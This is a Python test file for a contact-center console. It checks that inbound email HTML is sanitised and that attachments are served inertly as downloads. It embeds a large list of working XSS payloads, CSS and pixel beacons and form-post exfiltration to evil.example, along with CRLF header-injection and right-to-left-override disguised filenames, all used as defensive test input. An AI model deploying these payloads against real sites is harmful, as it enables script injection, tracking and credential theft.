"""A32 to A34: a stranger's HTML and files as the console serves them. Nothing runs, nothing is fetched unasked."""

from email.message import EmailMessage
from html.parser import HTMLParser

from sqlalchemy import select, update
from sqlmodel import col

from contactcenter.channels.email.html_safe import safe_html
from contactcenter.conversations.records import Attachment, Message
from contactcenter.staff.access import Role
from tests.attacks.house import OURS
from tests.integration.agent_ui.visitor import PUBLIC_URL

INERT = r"""
<script>alert(1)</script> <ScRiPt src=//evil.example/x></sCrIpT> <img src=x onerror=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg> <svg><script>alert(1)</script></svg>
<svg><feImage href="https://evil.example/f.svg"/></svg> <svg><use href="data:image/svg+xml,<svg id=x>"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<![CDATA[<img src=x onerror=alert(1)>]]> <html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script>
<a href="java&#10;script:alert(1)">a</a> <a href=" &#1; javascript:alert(1)">b</a> <a href="JaVaScRiPt:alert(1)">c</a>
<a href="data:text/html,<script>alert(1)</script>">d</a> <a href="vbscript:x">e</a> <a href="cid:x">f</a>
<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=x></object>
<embed src=x> <applet code=x></applet> <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=x">
<link rel=stylesheet href=https://evil.example/x.css> <link rel=prefetch href=https://evil.example/p>
<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=x></form>
<style>@import "https://evil.example/i.css"; input[value^=a]{background:url(https://evil.example/b)}</style>
<p style="background:url(https://evil.example/s)">s</p>
<p style="background-image:u\72l(https://evil.example/e)">e</p>
<p style="width:expression(alert(1))">x</p> <p style="position:fixed;inset:0;z-index:9">over</p>
<p style="behavior:url(#x);-moz-binding:url(x)">m</p> <div style="list-style:url(https://evil.example/l)">l</div>
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x 2x"> <img src="//evil.example/q.gif">
<img src="data:image/svg+xml;base64,PHN2Zz4="> <img src="data:text/html,x"> <img src="/events"> <img src="events?x=1">
<img src="/\evil.example/z"> <img src="http://desk.example/events">
<picture><source srcset=https://evil.example/w></picture>
<video src=https://evil.example/v poster=https://evil.example/p autoplay><track src=x></video> <audio src=x></audio>
<table background="https://evil.example/t"><tr><td background="https://evil.example/td">t</td></tr></table>
<body background=https://evil.example/body onload=alert(1)> <input type=image src=https://evil.example/in>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<p title='data-remote-src='>t</p><a title="src=" href="https://ok.example/">g</a>
<div id=timeline name=body>clobber</div>
<a href="https://evil.example/" target=_top ping=https://evil.example/ping download>h</a>
<details ontoggle=alert(1) open>
<img alt='" src="cid:logo@x" onerror="alert(1)'>
<blockquote title="</blockquote><script>alert(1)</script>">q</blockquote>
data-remote-src="https://evil.example/text" src="cid:logo@x"
"""
_TAGS_GONE = [
    "script",
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "meta",
    "link",
    "form",
    "input",
    "button",
    "style",
    "svg",
    "math",
    "video",
    "audio",
    "picture",
    "source",
    "template",
    "noscript",
]


class Look(HTMLParser):
    """What a browser would find: (tag, attribute, value)."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.found = [], []
        self.feed(page.partition("<body>")[2])

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.found += [(tag, name, "".join((value or "").split()).lower()) for name, value in attrs]

    def of(self, *names):
        return [value for _, name, value in self.found if name in names]


async def sheet_of(room, house):
    """A mail with an inline picture and all of that as its HTML; its reader and the address of its sheet."""
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "eve@evil.example", OURS, "x"
    made.set_content("plain")
    made.add_alternative("<p>hi</p>", subtype="html")
    made.get_payload()[1].add_related(b"\x89PNG\r\n\x1a\nrest", "image", "png", cid="<logo@x>", filename="logo.png")
    await room.take(made.as_bytes())
    (message,) = await room.messages("in")
    html = "".join(
        safe_html(line)[0] for line in INERT.splitlines()
    )  # one by one: an open style would swallow the rest
    async with room.store.transaction() as uow:
        await uow.session.execute(update(Message).where(col(Message.id) == message.id).values(html=html))
    return await house.person("boss", Role.ADMIN), f"/messages/{message.id}/sheet"


async def test_a32_cve_2024_42009_nothing_of_a_strangers_page_runs_or_sends(room, house):
    boss, path = await sheet_of(room, house)
    answer = await boss.get(path)
    seen = Look(answer.page)
    assert not set(_TAGS_GONE) & set(seen.tags)
    assert [
        name for _, name, _ in seen.found if name.startswith("on") or name in {"id", "ping", "srcset", "action"}
    ] == []
    assert [one for one in seen.of("href") if not one.startswith(("https://", "http://", "mailto:", "tel:"))] == []
    assert [one for one in seen.of("style") if "url" in one or "expression" in one or "position" in one] == []
    assert {one for one in seen.of("target") if one} == {"_blank"}
    policy = answer.headers["Content-Security-Policy"]
    for part in ("default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'", "sandbox "):
        assert part in policy
    assert "script" not in policy


async def test_a33_no_picture_is_fetched_before_a_click(room, house):
    boss, path = await sheet_of(room, house)
    answer = await boss.get(path)
    own = [one for one in Look(answer.page).of("src") if not one.startswith("/attachments/")]
    assert own == []
    assert "img-src 'self' data:;" in answer.headers["Content-Security-Policy"]
    assert answer.headers["Referrer-Policy"] == "no-referrer"


async def test_a33_after_the_click_pictures_come_from_elsewhere_and_never_from_our_own_pages(room, house):
    boss, path = await sheet_of(room, house)
    answer = await boss.get(f"{path}?pictures=1")
    sources = [one for one in Look(answer.page).of("src") if not one.startswith("/attachments/")]
    assert "https://evil.example/pixel.gif" in sources
    assert [one for one in sources if not one.startswith(("https://evil.", "//evil.", PUBLIC_URL))] == []
    assert (await boss.get("/events", headers={"Sec-Fetch-Dest": "image"})).status == 403
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert "sandbox " in answer.headers["Content-Security-Policy"]


FILES = {
    "picture.png": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/png"),
    "picture.svg": (b"<svg onload='alert(1)'/>", "image/svg+xml"),
    "readme.txt": (b"<script>alert(1)</script>", "text/plain"),
    "page.html": (b"<script>alert(1)</script>", "text/html"),
    "data.xml": (b"<?xml-stylesheet href='evil.xsl'?><x/>", "text/xml"),
    "sheet.pdf": (b"%PDF-1.7 /JavaScript", "application/pdf"),
    "app.js": (b"alert(1)", "text/javascript"),
    '..\\..//a"\r\nX: y;\u202egnp.exe': (b"MZ", "image/gif; x=\r\nX: y"),
}


async def test_a34_cve_2026_32753_a_file_is_a_download_whatever_it_calls_itself(house, room):
    boss, _ = await sheet_of(room, house)
    async with house.store.read() as uow:
        file = await uow.session.scalar(select(Attachment))
    for name, (content, kind) in FILES.items():
        values = {"filename": name, "content_type": kind, "sha256": await house.store.blobs.put(content)}
        async with house.store.transaction() as uow:
            await uow.session.execute(update(Attachment).where(col(Attachment.id) == file.id).values(**values))
        for inline in ("", "?inline=1"):
            answer = await boss.client.get(f"/attachments/{file.id}{inline}")
            assert await answer.read() == content
            assert answer.headers["Content-Type"] == "application/octet-stream", name
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert answer.headers["Content-Disposition"].startswith("attachment;")
            assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
            assert "X" not in answer.headers


async def test_a34_the_raw_source_is_text_that_no_browser_reads_as_a_page(room, house):
    boss, path = await sheet_of(room, house)
    answer = await boss.get(path.replace("/sheet", "/raw"))
    assert answer.headers["Content-Type"].startswith("text/plain")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


async def test_a34_a_file_name_does_not_read_backwards(room, house):
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "eve@evil.example", OURS, "x\u202eevil"
    made.set_content("see file")
    made.add_attachment(b"MZ", "application", "octet-stream", filename="invoice\u202efdp.exe")
    await room.take(made.as_bytes())
    async with house.store.read() as uow:
        names = [
            *await uow.session.scalars(select(Attachment.filename)),
            *await uow.session.scalars(select(Message.subject)),
        ]
    assert not {"\u202e", "\u2066", "\u200f"} & set("".join(names))
